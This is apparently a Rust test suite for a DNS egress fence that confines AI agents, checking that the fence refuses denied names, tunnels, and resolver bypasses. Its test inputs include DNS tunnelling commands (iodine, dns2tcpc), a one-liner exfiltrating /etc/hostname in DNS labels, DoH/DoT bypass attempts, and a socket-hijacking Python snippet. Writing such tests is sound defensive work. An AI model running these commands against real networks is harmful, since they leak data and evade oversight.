//! The first gate: names, and all that can be smuggled in a question.

use crate::{
    AGENT,
    attack::{stops, works},
    fence,
    places::{EVIL, OK},
    policies::{self, COMMON},
};

#[test]
fn whatever_server_an_agent_asks_its_own_resolver_answers() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT);
    for server in
        ["10.99.0.53", "fd99::53", "10.99.0.66", "fd99::66", "198.51.100.53", "192.0.2.1", "8.8.4.4"]
    {
        for transport in ["+notcp", "+tcp"] {
            let ask = format!("dig {DIG} {transport} @{server} {{host}} A | grep -x {{v4}}");
            works(&agent, OK, &[&ask]);
        }
    }
    let asks = [
        "dig +short +time=2 +tries=1 @{v4} ok.test",
        "dig +short +time=2 +tries=1 +tcp @{v4} ok.test",
        "dig +short +time=2 +tries=1 @{v6} ok.test AAAA",
        "dig +short +time=2 +tries=1 +tcp @{v6} ok.test AAAA",
        "dig +short +time=2 +tries=1 @198.51.100.53 ok.test",
    ];
    stops(&agent, EVIL, &asks);
}

#[test]
fn a_denied_name_is_asked_of_no_server() {
    let fence = fence(COMMON);
    let asks = [
        "dig +short +time=2 +tries=1 {mark}.{host}",
        "dig +short +time=2 +tries=1 +tcp {mark}.{host}",
        "dig +short +time=2 +tries=1 @{v4} {mark}.{host}",
        "dig +short +time=2 +tries=1 @{v6} {mark}.{host} AAAA",
        "dig +short +time=2 +tries=1 +tcp @198.51.100.53 {mark}.{host}",
        "dig +short +time=2 +tries=1 {mark}",
        "dig +short +time=2 +tries=1 {mark}.example.com",
        "getent ahosts {mark}.{host}",
        "curl -s -m 2 https://{mark}.{host}/",
        "/usr/bin/python3 -c 'import socket; socket.getaddrinfo(\"{mark}.{host}\", 443)'",
    ];
    stops(&fence.agent(AGENT), EVIL, &asks);
}

#[test]
fn a_denied_name_is_refused_with_a_reason_that_can_be_read() {
    let fence = fence(COMMON);
    let outcome = fence.agent(AGENT).run("dig +time=2 +tries=1 evil.test");
    assert!(outcome.says("status: REFUSED"), "{outcome:#?}");
    assert!(outcome.says("host-not-allowed"), "dig shows the Extended DNS Error: {outcome:#?}");
}

#[test]
fn only_addresses_are_asked_for_whatever_the_query_type() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT);
    for kind in ["TXT", "MX", "NS", "CNAME", "SRV", "NULL", "ANY", "PTR", "HTTPS", "SVCB", "SOA", "TYPE65280"]
    {
        let ask = format!("dig {DIG} {{mark}}.{{host}} {kind}");
        stops(&agent, OK, &[&ask]);
        stops(&agent, EVIL, &[&ask]);
    }
    let outcome = agent.run("dig +time=2 +tries=1 ok.test HTTPS");
    assert!(outcome.says("status: NOERROR") && outcome.says("ANSWER: 0"), "{outcome:#?}");
}

#[test]
fn nothing_but_the_name_of_a_question_goes_upstream() {
    let fence = fence(COMMON);
    let asks = [
        "dig +short +time=2 +tries=1 +ednsopt=65001:{hex} {host}",
        "dig +short +time=2 +tries=1 +ednsopt=65001:{hex} +tcp @198.51.100.53 {host} AAAA",
        "dig +short +time=2 +tries=1 +ednsopt=10:{hex} {host}",
        "dig +short +time=2 +tries=1 CH TXT {mark}.{host}",
        "dig +short +time=2 +tries=1 +opcode=NOTIFY {mark}.{host}",
    ];
    stops(&fence.agent(AGENT), OK, &asks);
}

#[test]
fn a_tunnel_in_labels_gets_no_bit_out() {
    let fence = fence(COMMON);
    let tunnels = [
        "for chunk in a b c d; do dig +short +time=1 +tries=1 $chunk.{mark}.{host} TXT; done",
        "for chunk in a b c d; do getent hosts $chunk.{mark}.{host}; done",
        "timeout 2 dns2tcpc -z t.{mark}.{host} 10.99.0.53",
        "timeout 2 dns2tcpc -z t.{mark}.{host} {v4}",
        "timeout 2 iodine -f -r -P secret -m 1200 10.99.0.53 t.{mark}.{host}",
        "head -c 40 /etc/hostname | base32 | tr -d = | xargs -I% dig +short +time=1 %.{mark}.{host}",
    ];
    stops(&fence.agent(AGENT), EVIL, &tunnels);
}

#[test]
fn dns_over_tls_and_over_https_to_other_servers_is_denied() {
    let fence = fence(COMMON);
    let asks = [
        "timeout 2 openssl s_client -connect {v4}:853 -servername {mark} < /dev/null",
        "timeout 2 openssl s_client -connect [{v6}]:853 -servername {mark} < /dev/null",
        "curl -sk -m 2 --doh-insecure --doh-url https://{v4}/dns-query https://{mark}.{host}/",
    ];
    stops(&fence.agent(AGENT), EVIL, &asks);
    // Of a name that is allowed, the port of DNS over TLS is not.
    let ask = "timeout 2 openssl s_client -connect {host}:853 -servername {host} -alpn {mark} < /dev/null";
    stops(&fence.agent(AGENT), OK, &[ask]);
}

#[test]
fn a_chain_of_aliases_is_followed_inside() {
    let fence = fence(&policies::with(&[
        "{host: chain.test, private: true}",
        "{host: loop.test, private: true}",
        "{host: v6only.test, private: true}",
        "{host: v4only.test, private: true}",
    ]));
    let agent = fence.agent(AGENT);
    let fetch = [
        "curl -4 -skSf -m 5 https://chain.test/ | grep 'hello from ok.test'",
        "curl -6 -skSf -m 5 https://chain.test/ | grep 'hello from ok.test'",
        "curl -skSf -m 5 https://v6only.test/ | grep 'hello from ok.test'",
        "curl -skSf -m 5 https://v4only.test/ | grep 'hello from ok.test'",
        // What the chain leads to is allowed by the name that was asked for, not by its own.
        "dig +short +time=2 +tries=1 ok.test | grep -c . | grep -x 0",
        "dig +time=5 +tries=1 loop.test | grep 'status: SERVFAIL'",
    ];
    works(&agent, OK, &fetch);
}

#[test]
fn answers_that_no_public_name_should_give_are_refused() {
    let names =
        ["rebind", "mixed", "metadata", "zero", "linklocal", "nat64", "mapped", "sixtofour", "private"];
    let open = names.map(|name| format!("{{host: {name}.test, private: {}}}", name != "private"));
    let fence = fence(&policies::with(&open.each_ref().map(String::as_str)));
    let agent = fence.agent(AGENT);
    for name in names {
        let ask = format!("dig {DIG} {name}.test A; dig {DIG} {name}.test AAAA");
        let unfenced = fence.lab().run(&ask);
        assert!(unfenced.stdout.contains(['.', ':']), "{name}.test proves nothing: {unfenced:#?}");
        let fenced = agent.run(&ask);
        assert_eq!(fenced.stdout, "", "{name}.test should not be answered: {fenced:#?}");
        agent.denial(name, |r| r["reason"] == "address-special-purpose" && r.to_string().contains(name));
    }
}

#[test]
fn a_name_with_very_many_addresses_takes_a_bounded_share() {
    let fence = fence(&policies::with(&["{host: many.test, private: true}"]));
    let outcome = fence.agent(AGENT).run("dig +short +time=5 +tries=1 many.test | wc -l");
    let count: usize = outcome.stdout.trim().parse().expect("wc prints a number");
    assert!((1..=64).contains(&count), "{count} addresses were handed on");
}

#[test]
fn an_agent_that_fills_its_grants_is_denied_and_leaves_others_untouched() {
    let mut rules: Vec<_> =
        (1..=100).map(|number| format!("{{host: {number}.flood.test, private: true}}")).collect();
    rules.push("{host: ok.test, private: true}".to_owned());
    let rules: Vec<_> = rules.iter().map(String::as_str).collect();
    let fence = fence(&policies::with(&rules));
    // Sixty addresses each: 4,096 grants are full before the hundredth name.
    let flood = "dig +short +time=5 +tries=1 $(seq -f %g.flood.test 1 100) | grep -c ^10.99.2";
    let flooded = fence.agent("flooder").run(flood);
    let count: usize = flooded.stdout.trim().parse().expect("grep prints a number");
    assert!((60..=4096).contains(&count), "{count} addresses were handed on");
    fence.agent("flooder").denial("the quota", |record| record["reason"] == "quota-exceeded");
    works(&fence.agent("bystander"), OK, &["curl -sSf -m 5 https://{host}/"]);
    let unfenced = fence.lab().run(flood);
    assert_eq!(unfenced.stdout.trim(), "6000", "unfenced, every name is answered: {unfenced:#?}");
}

#[test]
fn nobody_joins_the_sockets_of_an_agents_resolver() {
    let fence = fence(COMMON);
    let ask = format!("dig {DIG} ok.test | grep -x {}", OK.v4);
    for mode in [&["--mode", "cgroup"], &["--mode", "sealed"]] {
        let outcome = fence.agent(AGENT).with(mode).run(&format!("{ask}; python3 -c '{JOIN}'; {ask}"));
        let lines: Vec<_> = outcome.stdout.lines().collect();
        let ok = OK.v4.to_string();
        assert!(
            lines.starts_with(&[&ok, "joined my own"]) && lines.ends_with(&[&ok]),
            "{mode:?}: {outcome:#?}"
        );
        assert!(outcome.says("denied ") && !outcome.says("joined another"), "{mode:?}: {outcome:#?}");
    }
}

/// Tries to get a share of what comes to each UDP port of loopback; of one of its own, it does.
const JOIN: &str = r#"
import socket
def join(port):
    shared = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    shared.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    shared.bind(("127.0.0.1", port))
    return shared
own = join(0)
also = join(own.getsockname()[1])
print("joined my own")
ports = {line.split()[1] for line in open("/proc/net/udp")}
for port in {int(port[9:], 16) for port in ports if port.startswith("0100007F:")}:
    if port == own.getsockname()[1]:
        continue
    try:
        join(port)
        print("joined another")
    except OSError as error:
        print("denied", port, error)
"#;

/// Short answers, and no patience.
const DIG: &str = "+short +time=2 +tries=1";
